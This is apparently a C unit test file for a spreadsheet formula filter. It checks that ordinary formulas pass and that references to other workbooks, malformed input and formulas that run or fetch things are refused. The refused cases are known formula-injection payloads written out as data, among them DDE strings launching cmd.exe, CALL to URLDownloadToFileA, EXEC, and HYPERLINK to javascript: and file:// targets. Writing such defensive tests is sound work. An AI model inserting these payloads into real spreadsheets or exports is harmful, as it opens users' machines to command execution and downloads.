/* Which formulas stay and which go. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdlib.h>
#include <cmocka.h>

#include "neutral/grammar.h"

static void expect(const char *formula, bool allowed)
{
	if (formula_allowed(sk_bytes_str(formula)) != allowed)
		fail_msg("%s must be %s", formula, allowed ? "allowed" : "refused");
}

static void allows_ordinary_formulas(void **state)
{
	static const char *const formulas[] = {
		"", " ", "1", "1.5E-3", ".5", "-2%", "\"text\"", "\"say \"\"hi\"\"\"", "TRUE", "true", "A1", "$A$1", "A1:B2", "A:A", "$1:10", "A1:INDEX(B:B,3)",
		"SUM(A1:A3)", "sum( A1 , B2 )", "SUM ( A1 )", "IF(A1>=0,\"正\",\"負\")", "A1&\" \"&B1", "(A1+B1)*2^3", "A1<>B1", "SUM((A1:A2,C1))", "A1:C3 B2:D4", "{1,2;3,\"x\"}",
		"SUM({1;2}*A1:A2)", "+A1", "--A1", "@A1", "A1#", "SUM(A1#)", "_xlfn.ANCHORARRAY(A1)", "_xlfn.SINGLE(A1)", "_xlfn.STDEV.S(A1:A3)", "_xlfn._xlws.SORT(A1:A3)",
		"_xlfn.XLOOKUP(A1,B:B,C:C)", "_xlfn.LET(_xlpm.x,1,_xlpm.x+1)", "_xlfn.LAMBDA(_xlpm.f,_xlpm.f(2))(3)", "_xlfn.MAP(A1:A3,_xlfn.LAMBDA(_xlpm.v,_xlpm.v*2))",
		"税率*2", "合計_2024", "売上.表", "_name", "name.with.dots", "\\name", "Sheet1!A1", "Sheet1!$A$1:$B$2", "売上!A1", "'売上 表'!A1", "'it''s'!A1", "'First:Last'!A1", "First:Last!A1",
		"Sheet1:Sheet3!B2", "'A b'!name", "Sheet1!name", "!A1", "#REF!", "#N/A", "#DIV/0!", "Sheet1!#REF!", "#REF!A1", "#REF!#REF!", "SUM(#REF!,#NAME?)", "#SPILL!",
		"Table1[列]", "Table1[[#All],[列]]", "Table1[[#This Row],[A]:[B]]", "Table1[#Totals]", "SUBTOTAL(109,[列])", "[@列]", "[@[a b]]", "[#This Row]", "SUM(Table1[x'[y])", "Table1[]",
		"Table1[a]:Table1[b]", "R[1]C[-1]", "R1C1", "RC[-1]", "SUM(R[-3]C:R[-1]C)", "[0]!Print_Area", "'Field 1'*2", "'売上 高'/2", "1:1", "IF(A1,,)", "A1\n+B1", "A1\t+\r\nB1",
		"HYPERLINK(\"https://example.jp/\",\"x\")", "HYPERLINK(\"#Sheet1!A1\")", "HYPERLINK( \"mailto:a@example.jp\" )", "hyperlink(\"http://example.jp\",A1)", "PHONETIC(A1)",
		"DATEDIF(A1,B1,\"y\")", "ASC(A1)&JIS(B1)&YEN(1)", "CELL(\"filename\",A1)", "INDIRECT(\"A\"&ROW())", "\"[1]Sheet1!A1 | cmd\"", "GETPIVOTDATA(\"売上\",$A$3)", "ISO.CEILING(1)",
		"FORMULATEXT(A1)", "_xlfn.FORECAST.ETS.SEASONALITY(A1:A3,B1:B3)", "COUNTIF(A:A,\"<>\"&B1)", "Z.TEST(A1:A2,1)",
	};
	(void)state;
	for (size_t i = 0; i < SK_COUNT(formulas); i++)
		expect(formulas[i], true);
}

static void refuses_other_workbooks(void **state)
{
	static const char *const formulas[] = {
		"[1]Sheet1!A1", "[1]!name", "'[1]Sheet 1'!A1", "[Book1.xlsx]Sheet1!A1", "'[Book 1.xlsx]Sheet1'!A1", "'C:\\dir\\[Book1.xlsx]Sheet1'!A1", "'\\\\server\\share\\[b.xlsx]s'!A1",
		"'http://example.jp/[b.xlsx]s'!A1", "SUM([2]Sheet1!A1:A3)", "\\\\server\\share!A1", "C:\\dir\\x!A1", "Table1[a]Sheet!A1", "Table1[a]!A1", "path[b.xlsx]s!A1",
		"[1] Sheet1!A1", "[b]'s'!A1", "[1]!''''", "Book1.xlsx!name", "'Book1.xlsm'!name", "'Book 1.XLS'!A1", "[0]!f(1)", "[[1]]Sheet1!A1", "R[1]!A1", "[x", "Table1[x", "Table1[[[x]]]",
		"HYPERLINK(\"[Book2.xlsx]Sheet1!A1\",\"x\")", "'a/b'!A1", "'a*b'!A1", "'a:b:c'!A1", "'a'!'b'!A1",
	};
	(void)state;
	for (size_t i = 0; i < SK_COUNT(formulas); i++)
		expect(formulas[i], false);
}

static void refuses_what_runs_or_fetches(void **state)
{
	static const char *const formulas[] = {
		"cmd|'/c calc'!A0", "cmd|' /C calc'!A0", "'cmd|x'!A0", "MSEXCEL|'\\..\\..\\cmd.exe'!''", "+cmd|'/c calc'!A0", "\"x\"|A1", "CALL(\"urlmon\",\"URLDownloadToFileA\",\"JJCCJJ\")", "call (1)",
		"REGISTER(\"a\")", "REGISTER.ID(\"a\",\"b\")", "EXEC(\"calc\")", "SQL.REQUEST(\"x\")", "RTD(\"x\",,\"y\")", "WEBSERVICE(\"http://x\")", "_xlfn.WEBSERVICE(\"http://x\")", "_xlfn.IMAGE(\"http://x\")",
		"_xlfn.STOCKHISTORY(\"x\")", "_xlfn._xlws.PY(1,0)", "_xlfn.TRANSLATE(A1)", "_xlfn.DETECTLANGUAGE(A1)", "CUBEVALUE(\"x\")", "EVALUATE(A1)", "GET.CELL(1,A1)", "FORMULA(\"x\",A1)",
		"FORMULA.FILL(1,A1)", "DDE(\"a\",\"b\",\"c\")", "_xll.Foo(1)", "MyMacro()", "module1.run(1)", "Sheet1!SUM(1)", "Sheet1!foo()", "税込(A1)", "__xludf.DUMMYFUNCTION(\"x\")", "GOTO(A1)", "RUN(A1)",
		"SUM(A1,EXEC(\"calc\"))", "HYPERLINK(A1)", "HYPERLINK(\"javascript:x\",\"y\")", "HYPERLINK(\"http://x/\"&A1)", "HYPERLINK(\"\\\\server\\x\")", "HYPERLINK(\"file:///c:/x\")", "HYPERLINK()",
		"HYPERLINK(CONCATENATE(\"http://x?\",A1))", "_xlfn.HYPERLINK(A1)", "SUMX(1)", "SU(1)", "COPILOT(\"x\")", "IMPORTTEXT(\"x\")",
	};
	(void)state;
	for (size_t i = 0; i < SK_COUNT(formulas); i++)
		expect(formulas[i], false);
}

static void refuses_what_is_no_formula(void **state)
{
	static const char *const formulas[] = {
		"\"open", "'open", "'a'!", "Sheet1!", "Sheet1! A1", "(", ")", "(A1", "A1)", "{1", "1}", "A1|B1", "`x`", "~A1", "a\x01", "#", "#A1", "1!A1", "Sheet1!\"x\"", "Sheet1!(A1)", "Sheet1!!A1", "?",
		"A1!B1!C1", "HYPERLINK(\"http://x", "#REF! A1!", "]", "A1]", "[0]!", "[0]!'x'!A1",
	};
	(void)state;
	for (size_t i = 0; i < SK_COUNT(formulas); i++)
		expect(formulas[i], false);
}

/* The scanner has no stack: depth and length cost nothing but their bytes. */
static void is_total(void **state)
{
	size_t len = (size_t)1 << 20;
	char *text = malloc(len);
	static const char fills[] = "([{'\"#!@A1|\\$. R";
	(void)state;
	assert_non_null(text);
	for (size_t i = 0; i < sizeof fills - 1; i++) {
		memset(text, fills[i], len);
		(void)formula_allowed(sk_bytes_of(text, len));
		for (size_t k = 1; k < len; k += 2)
			text[k] = fills[(i + k / 2) % (sizeof fills - 1)];
		(void)formula_allowed(sk_bytes_of(text, len));
	}
	memset(text, '(', len / 2);
	memset(text + len / 2, ')', len / 2);
	assert_true(formula_allowed(sk_bytes_of(text, len)));
	free(text);
}

/* The table is searched by halves. */
static void functions_are_in_order(void **state)
{
	static const char *const names[] = {
#define FUNCTION(name) name,
#include "neutral/formula_functions.def"
#undef FUNCTION
	};
	(void)state;
	for (size_t i = 0; i < SK_COUNT(names); i++) {
		char formula[64];
		if (i > 0)
			assert_true(strcmp(names[i - 1], names[i]) < 0);
		assert_in_range(strlen(names[i]), 1, 39);
		memcpy(formula, names[i], strlen(names[i]));
		memcpy(formula + strlen(names[i]), "(1)", 4);
		expect(formula, true);
		formula[0] = formula[0] == 'Q' ? 'X' : 'Q';
		memmove(formula + 1, formula, strlen(formula) + 1);
		formula[0] = 'Q';
		expect(formula, false);
	}
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(allows_ordinary_formulas),
		cmocka_unit_test(refuses_other_workbooks),
		cmocka_unit_test(refuses_what_runs_or_fetches),
		cmocka_unit_test(refuses_what_is_no_formula),
		cmocka_unit_test(is_total),
		cmocka_unit_test(functions_are_in_order),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
